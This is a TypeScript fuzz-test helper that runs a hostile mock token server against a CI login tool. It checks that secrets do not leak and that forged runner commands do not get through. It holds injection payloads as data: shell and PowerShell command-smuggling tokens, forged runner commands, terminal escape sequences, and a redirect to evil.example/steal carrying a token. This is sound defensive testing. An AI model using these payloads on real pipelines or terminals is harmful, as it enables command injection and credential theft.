import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT } from '../e2e/github-runner.ts';
import { hostilePayload } from '../e2e/runner-commands.ts';
import { LoopbackServer, type RecordedRequest, type Reply } from '../emulators/loopback-server.ts';

/** A small seeded PRNG (mulberry32), so a failing case can be replayed from its seed. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(rand: () => number, items: readonly T[]): T => items[Math.floor(rand() * items.length)] as T;

function randomBytes(rand: () => number, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => Math.floor(rand() * 256)));
}

function randomText(rand: () => number, length: number): string {
  return Array.from({ length }, () => String.fromCharCode(Math.floor(rand() * 0x2fff))).join('');
}

/** Marks every forged command the hostile server tries, so the fuzz tests can spot one that got through. */
export const FORGED_MARKER = 'FUZZ-FORGED';
const FORGED = hostilePayload(FORGED_MARKER);

/** Text that made the old redaction patterns backtrack quadratically. */
function redactionStress(rand: () => number): string {
  const unit = pick(rand, ['eyJ', 'a', 'a.', 'access_token ', 'Bearer ', '"value": ', 'eyJa.']);
  return unit.repeat(Math.ceil((200_000 + Math.floor(rand() * 600_000)) / unit.length));
}

/**
 * Access tokens that, printed raw, would forge a runner command, drive a terminal or break out of
 * the quoting of an `env` format. Readers must refuse every one (the token-shape rule).
 */
export const HOSTILE_TOKENS = [
  `::stop-commands::${FORGED_MARKER}`,
  `x\n::add-mask::${FORGED_MARKER}`,
  `tok##vso[task.setvariable variable=${FORGED_MARKER}]x`,
  `tok##[set-output name=${FORGED_MARKER}]x`,
  'abc\u2019;ni(\u2018/tmp/pwned-ps\u2019);\u2019',
  "abc';touch /tmp/pwned-sh;'",
  'eyJx.$(touch /tmp/pwned-dotenv).sig',
  'eyJx.`touch /tmp/pwned-tick`.sig',
  '\u001b]52;c;ZXZpbA==\u0007tok',
  '\u001b[2J\u009b31mtok',
  '\u001b]8;;http://evil.example\u001b\\link',
  'tok\\"quoted',
];

const STATUSES = [
  200, 200, 200, 201, 204, 301, 302, 400, 401, 403, 404, 405, 409, 418, 429, 500, 502, 503, 504, 599,
];

/**
 * One hostile answer. Many echo what the client sent (subject token, client assertion, bearer
 * token) inside errors, HTML or headers, to prove none of it reaches a log.
 */
export function hostileReply(rand: () => number, request: RecordedRequest, allowHang: boolean): Reply {
  const authorization = String(request.headers.authorization ?? '');
  // A Basic header (OAuth M2M) is echoed decoded half the time: the raw client secret.
  const basic = /^Basic (.+)$/.exec(authorization)?.[1];
  const echoed =
    request.form.get('subject_token') ??
    request.form.get('client_assertion') ??
    (basic && rand() < 0.5
      ? Buffer.from(basic, 'base64').toString('utf8')
      : authorization.replace(/^Bearer /, ''));
  const status = pick(rand, STATUSES);
  const kind = Math.floor(rand() * 20);
  switch (kind) {
    case 0:
      return { status, body: randomBytes(rand, Math.floor(rand() * 4096)) };
    case 1:
      return { status, body: randomText(rand, Math.floor(rand() * 2048)) };
    case 2:
      return { status: 200, body: Buffer.alloc(1024 * 1024 + 1 + Math.floor(rand() * 4096), 0x41) };
    case 3: {
      const depth = 2000 + Math.floor(rand() * 50_000);
      return { status, body: `${'['.repeat(depth)}${']'.repeat(depth)}` };
    }
    case 4:
      return { status, body: `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}` };
    case 5:
      return {
        status: 200,
        body: {
          access_token: pick(rand, [123, null, ['x'], { t: 1 }, '', 'has space', true]),
          expires_in: 300,
        },
      };
    case 6:
      return {
        status: 200,
        body: {
          access_token: `tok-${Math.floor(rand() * 1e9)}`,
          expires_in: pick(rand, ['NaN', -5, 1e308, '3600', null, {}]),
        },
      };
    case 7:
      return {
        status: pick(rand, [400, 401, 403]),
        body: { error: 'invalid_request', error_description: `bad token ${echoed}` },
      };
    case 8:
      return {
        status,
        body: `<html><body>Sign in again<script>var t="${echoed}"</script></body></html>`,
        headers: { 'content-type': 'text/html' },
      };
    case 9:
      return {
        status,
        body: { error: { nested: [1, 2, 3] }, error_description: 42, message: null, access_token: echoed },
      };
    case 10:
      return {
        status: pick(rand, [429, 503]),
        headers: {
          'retry-after': pick(rand, ['-1', 'abc', '999999', 'Wed, 21 Oct 2099 07:28:00 GMT', '0', '2']),
        },
      };
    case 11:
      return {
        status: pick(rand, [301, 302, 307]),
        headers: { location: `http://evil.example/steal?t=${encodeURIComponent(echoed)}` },
      };
    case 12:
      return allowHang && rand() < 0.3 ? { status: 200, hang: true } : { status: 200, body: '' };
    case 13:
      return {
        status,
        body: JSON.stringify({
          userName: pick(rand, [
            7,
            null,
            '',
            '\n::set-output name=x::y',
            '##vso[task.setvariable variable=X]y',
          ]),
        }),
      };
    case 14:
      return { status, body: 'null' };
    case 15:
      // Forged runner commands in every field a step might print.
      return {
        status: pick(rand, [200, 400, 401, 403, 500]),
        body: {
          userName: FORGED,
          error: FORGED,
          error_description: FORGED,
          message: FORGED,
          token_federation_default_oidc_audiences: [FORGED],
          account_id: FORGED,
          ...(rand() < 0.5 ? { access_token: `ok-${Math.floor(rand() * 1e9)}`, expires_in: 300 } : {}),
        },
      };
    case 16:
      return { status: pick(rand, [400, 401, 500, 200]), body: redactionStress(rand) };
    case 17:
      return {
        status: 200,
        body: {
          access_token: pick(rand, ['eyJhbGciOiJub25lIn0.eyJleHAiOjF9.', 'opaque']),
          expires_in: pick(rand, [0.001, 0, -1, 1e-9]),
        },
      };
    case 18:
      // A hostile token in every token field a reader might take (Databricks, Entra, Google).
      return {
        status: 200,
        body: ((token) => ({ access_token: token, token, accessToken: token, expires_in: 3600 }))(
          pick(rand, HOSTILE_TOKENS),
        ),
      };
    default:
      return {
        status: 200,
        body: {
          access_token: `ok-${Math.floor(rand() * 1e9)}`,
          token_type: 'Bearer',
          expires_in: 300,
          userName: 'fuzz@example.com',
          value: echoed,
          oidcToken: echoed,
        },
      };
  }
}

/** A server whose every answer comes from `hostileReply`, seeded per request. */
export class HostileServer extends LoopbackServer {
  rand: () => number = seededRandom(1);
  allowHang = false;

  protected handle(request: RecordedRequest): Reply {
    return hostileReply(this.rand, request, this.allowHang);
  }
}

/** What a fuzz run found; `slowestMs` is the slowest case, `slowestCase` its seed (or name). */
export interface FuzzReport {
  cases: number;
  crashes: number;
  leaks: number;
  /** Forged runner commands that reached the output. */
  forged: number;
  /** Cases that outlived their time bound. */
  stalls: number;
  succeeded: number;
  slowestMs: number;
  slowestCase: string;
}

export function newFuzzReport(): FuzzReport {
  return {
    cases: 0,
    crashes: 0,
    leaks: 0,
    forged: 0,
    stalls: 0,
    succeeded: 0,
    slowestMs: 0,
    slowestCase: '',
  };
}

/** Counts a case's duration, and whether it stayed within its bound. */
export function timeCase(
  report: FuzzReport,
  name: string,
  ms: number,
  boundMs: number,
  problems: string[],
): void {
  if (ms > report.slowestMs) {
    report.slowestMs = Math.round(ms);
    report.slowestCase = name;
  }
  if (ms > boundMs) {
    report.stalls++;
    problems.push(`${name}: took ${Math.round(ms)} ms, more than its bound of ${boundMs} ms`);
  }
}

/** Records a fuzz run's counts for .ci/run to report. */
export function writeFuzzReport(name: string, report: FuzzReport): void {
  const dir = join(ROOT, 'build');
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, `fuzz-${name}.json`),
    JSON.stringify({ ...report, slowestCase: `${name} ${report.slowestCase}` }),
  );
  console.log(
    `fuzz ${name}: ${report.cases} cases, ${report.crashes} crashes, ${report.leaks} leaks, ${report.forged} forged commands, ${report.stalls} stalls, ${report.succeeded} logins succeeded; slowest case ${report.slowestMs} ms (${report.slowestCase})`,
  );
}
